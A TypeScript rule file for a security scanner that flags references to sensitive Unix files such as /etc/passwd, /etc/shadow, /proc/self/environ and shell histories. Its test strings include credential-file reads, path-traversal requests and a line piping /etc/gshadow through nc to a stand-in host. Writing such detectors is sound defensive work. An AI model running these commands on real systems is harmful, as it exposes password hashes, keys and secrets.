import type { Rule } from '../rule.ts';
import { expression } from './boundary.ts';
import { isOnlyNamed, isUsedAsFile } from './mention.ts';
import { NAME_END, PATH_START, PUBLIC_PATH, pathKeywords, pathOf } from './path.ts';

const COMMON = {
  pattern: 'sensitive_unix_path',
  threat_type: 'EXFIL',
  direction: 'outbound',
  confidence: 'medium',
  publicPrefix: PUBLIC_PATH,
  source: 'https://www.pathname.com/fhs/pub/fhs-2.3.html',
  remedy: 'Look at what asked for the file and what became of its contents.',
} as const;

/** The family `sensitive_unix_path`: files that describe accounts and running processes. */
export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
  {
    ...COMMON,
    id: 'etc_passwd_path',
    severity: 'low',
    keywords: pathKeywords('etc', 'passwd'),
    expression: expression('g', PATH_START, pathOf('etc', 'passwd'), NAME_END),
    reach: { before: 0, after: 14 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of the list of accounts.',
    get finds() {
      return ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'];
    },
    get ignores() {
      return ['/etc/passwd-backup', 'never open /etc/passwd', 'fetch/passwd'];
    },
  },
  {
    ...COMMON,
    id: 'etc_shadow_path',
    severity: 'medium',
    keywords: [
      ...pathKeywords('etc', 'shadow'),
      ...pathKeywords('etc', 'gshadow'),
      ...pathKeywords('etc', 'sudoers'),
      ...pathKeywords('etc', 'master.passwd'),
      ...pathKeywords('etc', 'krb5.keytab'),
    ],
    expression: expression(
      'g',
      PATH_START,
      pathOf('etc', String.raw`(?:g?shadow-?|sudoers(?:\.d)?|master\.passwd|krb5\.keytab)`),
      NAME_END,
    ),
    reach: { before: 0, after: 24 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of password hashes, of the rules of sudo, or of Kerberos keys.',
    get finds() {
      return ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'];
    },
    get ignores() {
      return ['/etc/shadowsocks/config.json', 'sketch/shadow', 'Do not touch /etc/sudoers'];
    },
  },
  {
    ...COMMON,
    id: 'proc_environ_path',
    severity: 'medium',
    keywords: ['/environ', '\\environ', '%2fenviron', '%5cenviron'],
    expression: expression(
      'g',
      PATH_START,
      pathOf('proc', String.raw`(?:self|thread-self|[0-9]{1,7}|\*|\$\{?[A-Za-z_$]{1,12}\}?)`, 'environ'),
      NAME_END,
    ),
    reach: { before: 36, after: 12 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of the environment of a running process, keys included.',
    get finds() {
      return ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'];
    },
    get ignores() {
      return ['os.environ["HOME"]', '/proc/self/environment', 'avoid /proc/self/environ'];
    },
  },
  {
    ...COMMON,
    id: 'shell_history_path',
    severity: 'low',
    keywords: ['_history'],
    expression: /\.(?:bash|zsh|sh|ash|python|mysql|psql|node_repl|rediscli|sqlite)_history(?![A-Za-z0-9_-])/g,
    reach: { before: 11, after: 8 },
    validate: (match) => isUsedAsFile(match) && !isOnlyNamed(match),
    describes: 'The path of a history of typed commands, passwords among them.',
    get finds() {
      return ['cat ~/.bash_history', '{"path":"/home/u/.zsh_history"}', 'tail .mysql_history'];
    },
    get ignores() {
      return ['obj.sh_history_size', 'The file named .bash_history grows', 'never read ~/.bash_history'];
    },
  },
];
